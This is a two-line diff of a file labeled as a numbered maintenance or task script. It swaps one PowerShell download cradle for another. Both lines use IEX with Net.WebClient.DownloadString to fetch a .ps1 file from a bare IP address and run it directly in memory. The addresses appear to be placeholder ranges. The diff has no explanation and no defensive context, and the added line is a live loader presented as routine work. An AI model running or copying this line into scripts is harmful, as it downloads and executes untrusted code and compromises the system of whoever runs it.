@@ -1,2 +1,2 @@
-# maintenance 7084 v1
-IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/payload.ps1')
+# task 9594 v1
+IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1')
